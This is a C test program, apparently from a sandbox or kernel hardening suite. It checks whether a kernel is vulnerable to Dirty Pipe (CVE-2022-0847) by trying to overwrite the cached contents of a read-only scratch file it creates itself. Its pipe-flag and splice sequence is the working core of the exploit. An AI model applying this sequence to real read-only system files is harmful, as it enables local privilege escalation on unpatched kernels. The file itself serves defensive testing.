/* class: filesystem
 * what: writes into the page cache of a read-only file through a pipe (CVE-2022-0847); a patched kernel or a refused splice holds
 */
#include "attack.h"

int main(void)
{
    const char *dir = scratch_dir();
    char path[300];
    if (!dir)
        contained("no place to write");
    snprintf(path, sizeof path, "%s", scratch_path(dir, "ro"));
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0400);
    (void)!write(fd, "AAAAAAAAAAAAAAAA", 16);
    close(fd);
    fd = open(path, O_RDONLY);
    unlink(path); /* our own file: even a vulnerable kernel loses nothing */
    int p[2];
    if (fd < 0 || pipe(p) < 0)
        contained("no pipe: %s", errname(errno));
    int size = fcntl(p[1], 1032 /* F_GETPIPE_SZ */);
    char buf[4096] = "";
    for (int n = 0; n < size; n += 4096)
        (void)!write(p[1], buf, 4096);
    for (int n = 0; n < size; n += 4096)
        (void)!read(p[0], buf, 4096);
    loff_t offset = 0;
    if (syscall(SYS_splice, fd, &offset, p[1], NULL, 1, 0) < 1)
        contained("splice=%s", errname(errno));
    (void)!write(p[1], "BBBB", 4);
    char got[17] = "";
    (void)!pread(fd, got, 16, 0);
    if (strchr(got, 'B'))
        escaped("the page cache of a read-only file changed");
    contained("the file kept its bytes");
}
